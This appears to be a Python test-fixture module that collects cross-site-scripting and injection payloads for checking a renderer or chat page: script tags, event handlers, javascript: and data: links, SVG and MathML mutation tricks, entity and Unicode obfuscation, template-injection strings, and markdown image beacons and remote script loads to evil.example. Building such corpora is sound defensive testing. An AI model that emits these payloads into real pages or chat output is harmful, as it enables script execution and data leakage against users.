"""Texts that attack whoever shows them: for the renderer, and for every page on which people or models speak."""

SCRIPTS = (
    "<script>window.owned = 1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.owned = 1</scr</script>ipt>",
    "<script\x0btype='text/javascript'>window.owned = 1</script>",
    "<script/random>window.owned = 1</script/random>",
    "</pre></code></p><script>window.owned = 1</script>",
    "</textarea></title></style></noscript><script>window.owned = 1</script>",
    "--><script>window.owned = 1</script><!--",
    "<![CDATA[<script>window.owned = 1</script>]]>",
    "<!DOCTYPE html><html><body onload=window.owned=1>",
)

HANDLERS = (
    "<img src=x onerror=window.owned=1>",
    "<img src=x:x onerror\x0c=\x0cwindow.owned=1//",
    "<img/src='x'/onerror='window.owned=1'/",
    '<img """><script>window.owned = 1</script>">',
    "<body onpageshow=window.owned=1>",
    "<details open ontoggle=window.owned=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.owned=1>",
    "<video><source onerror=window.owned=1></video>",
    "<audio src=x onerror=window.owned=1></audio>",
    "<marquee onstart=window.owned=1>x</marquee>",
    "<div style='animation-name:x' onanimationstart=window.owned=1>x</div>",
    "<select autofocus onfocus=window.owned=1><option>x</select>",
    "<a onpointerenter=window.owned=1>hover</a>",
    "<p/onclick=window.owned=1>x",
)

FRAMES_AND_REQUESTS = (
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<iframe src=javascript:parent.owned=1></iframe>",
    "<object data=javascript:window.owned=1></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5wYXJlbnQub3duZWQ9MTwvc2NyaXB0Pg==>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/y) }</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>send</button></form>",
    "<isindex action=javascript:window.owned=1 type=submit>",
    "<img src=//evil.example/beacon.png>",
    "<table background=//evil.example/x><td>x</table>",
    "![beacon](https://evil.example/beacon.png)",
    "![beacon](//evil.example/beacon.png 'a title')",
    "[![inner](https://evil.example/1.png)](https://evil.example/2)",
    "![a ![b](https://evil.example/3.png)](https://evil.example/4.png)",
)

FOREIGN = (
    "<svg onload=window.owned=1>",
    "<svg><script>window.owned = 1</script></svg>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.owned=1><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.owned=1></svg>#x'/></svg>",
    "<svg><style><img src=x onerror=window.owned=1></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=window.owned=1>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=1&gt;">',
    "<math><mi//xlink:href='data:x,<script>window.owned=1</script>'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=window.owned=1></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
    "<template><img src=x onerror=window.owned=1></template>",
    "<xmp><p title='</xmp><img src=x onerror=window.owned=1>'></xmp>",
    "<listing>&lt;img src=x onerror=window.owned=1&gt;</listing>",
)

LINKS = (
    "[x](javascript:window.owned=1)",
    "[x](JaVaScRiPt:window.owned=1)",
    "[x](java\nscript:window.owned=1)",
    "[x](\x01javascript:window.owned=1)",
    "[x](&#106;avascript:window.owned=1)",
    "[x](javascript&colon;window.owned=1)",
    "[x](<java\tscript:window.owned=1>)",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+)",
    "[x](data:image/svg+xml,<svg onload=window.owned=1>)",
    "<javascript:window.owned=1>",
    "<data:text/html,<script>window.owned=1</script>>",
    "[x]: javascript:window.owned=1\n\n[x]",
    '[x](https://evil.example "onmouseover=window.owned=1 x=")',
    "[x](https://evil.example '\"><img src=x onerror=window.owned=1>')",
    "[<img src=x onerror=window.owned=1>](https://evil.example)",
    '!["><img src=x onerror=window.owned=1>](x)',
    "https://evil.example/<script>window.owned=1</script>",
)

ENTITIES = (
    "&lt;script&gt;window.owned = 1&lt;/script&gt;",
    "&#60;img src=x onerror=window.owned=1&#62;",
    "&#x3c;img src=x onerror=window.owned=1&#x3e;",
    "&amp;lt;img src=x onerror=window.owned=1&amp;gt;",
    "&ltimg src=x onerror=window.owned=1&gt",
    "\\<img src=x onerror=window.owned=1\\>",
    "%3Cscript%3Ewindow.owned=1%3C/script%3E",
)

MARKDOWN = (
    "```html\n<img src=x onerror=window.owned=1>\n```",
    '```"><img/src=x onerror=window.owned=1>\nx\n```',
    "~~~ class='x' onclick=window.owned=1\nx\n~~~",
    "`</code><img src=x onerror=window.owned=1>`",
    "    </code></pre><img src=x onerror=window.owned=1>",
    "| <img src=x onerror=window.owned=1> | b |\n|---|---|\n| </td><script>window.owned=1</script> | c |",
    '| a |\n|:-:" onclick=window.owned=1|\n| b |',
    "> <script>\n> window.owned = 1\n> </script>",
    "# <svg onload=window.owned=1>",
    "*<b onclick=window.owned=1>x*</b>",
    "1. <img src=x\n   onerror=window.owned=1>",
    "<img src=x\n\nonerror=window.owned=1>",
    "**<script>**window.owned = 1**</script>**",
    "-" * 3 + "\ntitle: <script>window.owned = 1</script>\n" + "-" * 3,
    '<a href="javascript:window.owned=1">[x](https://evil.example)</a>',
    '[a](<b"onclick="window.owned=1>)',
)

UNICODE = (
    "＜script＞window.owned = 1＜/script＞",
    "\ufeff<script>window.owned = 1</script>",
    "<scr\u0000ipt>window.owned = 1</scr\u0000ipt>",
    "<ſcript>window.owned = 1</ſcript>",
    "\u202e<script>window.owned = 1</script>\u202c",
    "\u2066\u202egnp.exe\u2069",
    "<img src=x onerror\u2028=window.owned=1>",
    "\ud800<img src=x onerror=window.owned=1>\udfff",
    "\x1b]0;owned\x07 \x9b31m \x7f",
    "<\u200bscript>window.owned = 1</\u200bscript>",
    "𝕊𝕔𝕣𝕚𝕡𝕥 <𝓼𝓬𝓻𝓲𝓹𝓽>",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
)

TEMPLATES = (
    "{{ 7 * 7 }}{% import os %}",
    "${alert(1)}",
    "#{7*7}",
    "%(name)s %s %d {0} {name}",
    "</script><script>window.owned = 1</script>",
    "\\u003cscript\\u003ewindow.owned = 1",
    "<!--<script>",
)
"""What breaks out of templates, of translated strings and of JSON in a page."""

HOSTILE = SCRIPTS + HANDLERS + FRAMES_AND_REQUESTS + FOREIGN + LINKS + ENTITIES + MARKDOWN + UNICODE + TEMPLATES
